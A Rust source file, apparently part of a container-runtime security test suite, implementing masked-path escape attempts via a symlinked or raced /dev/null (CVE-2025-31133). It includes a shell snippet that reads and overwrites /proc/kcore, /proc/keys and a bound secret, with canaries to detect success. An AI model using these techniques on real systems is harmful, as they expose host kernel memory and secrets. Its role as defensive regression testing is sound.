//! What a masked path is covered with.

use std::fs;
use std::os::unix::fs::symlink;

use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use serde_json::json;

use crate::attack::{Attack, Verdict, Walls};
use crate::bundle::Bundle;
use crate::canary::Canaries;
use crate::field::Field;
use crate::swap::Swapping;
use crate::trouble::{Trouble, cannot};

pub const LINK: Attack = Attack {
    name: "masked path behind a link at /dev/null",
    cve: "CVE-2025-31133, CVE-2026-88265",
    tries: "An image without a /dev of its own brings a /dev/null that is a link to a file of its choice.",
    attempt: link,
};

pub const SWAPPED: Attack = Attack {
    name: "masked path behind a swapped /dev/null",
    cve: "CVE-2025-31133",
    tries: "Another container on a shared /dev exchanges /dev/null for a link while paths are masked.",
    attempt: swapped,
};

/// What a masked file, and one of a volume that is masked, shows. Nothing is written to /dev/null, which
/// may lead to the canary by the container's own doing.
const LOOK: &str = "for f in /secret /proc/timer_list /proc/kcore /proc/keys; do
        [ -e $f ] || continue
        got=$(timeout 5 dd if=$f bs=64 count=1 2>&- | tr -cd 'a-z-')
        [ -z \"$got\" ] || echo \"! read $got from $f\"
        (echo over >$f) 2>&-
    done
    true";

fn hostile(field: &Field, walls: Walls, canaries: &Canaries) -> Result<Bundle, Trouble> {
    let mut bundle = Bundle::image(field, walls)?;
    bundle.leave_out("/dev");
    bundle.bind(
        &canaries.directory().join("masked"),
        "/secret",
        &["bind", "rw"],
    );
    bundle.bind(
        &canaries.directory().join("other"),
        "/other",
        &["bind", "rw"],
    );
    let masked = bundle.spec["linux"]["maskedPaths"].as_array_mut();
    if let (Walls::Up, Some(masked)) = (walls, masked) {
        masked.push(json!("/secret"));
    }
    bundle.script(LOOK);
    Ok(bundle)
}

fn link(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &["masked", "other"])?;
    let mut reached = Vec::new();
    for target in ["/other", "/proc/version", "/proc/self/environ", "/dev/zero"] {
        let bundle = hostile(field, walls, &canaries)?;
        if walls == Walls::Up {
            bundle.link("dev/null", target)?;
        }
        reached.extend(field.run(&bundle)?.reached()?);
    }
    reached.extend(canaries.harmed()?);
    Ok(Verdict::of(reached))
}

fn swapped(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &["masked", "other"])?;
    let volume = field.make_dir("volume")?;
    let mut reached = Vec::new();
    for _ in walls.rounds() {
        let _ = fs::remove_file(volume.join("null"));
        let _ = fs::remove_file(volume.join("link"));
        symlink("/other", volume.join("link")).map_err(cannot("fill a volume"))?;
        let null = mknod(
            &volume.join("null"),
            SFlag::S_IFCHR,
            Mode::from_bits_truncate(0o666),
            makedev(1, 3),
        );
        null.map_err(std::io::Error::from)
            .map_err(cannot("make a device"))?;
        let mut bundle = hostile(field, walls, &canaries)?;
        bundle.bind_first(&volume, "/dev");
        // With the walls down no race is to be won, only the path is to be read.
        let swapping = (walls == Walls::Up)
            .then(|| Swapping::begin(&volume.join("null"), &volume.join("link")));
        let outcome = field.run(&bundle)?;
        drop(swapping);
        reached.extend(outcome.reached()?);
    }
    reached.extend(canaries.harmed()?);
    reached.sort();
    reached.dedup();
    Ok(Verdict::of(reached))
}
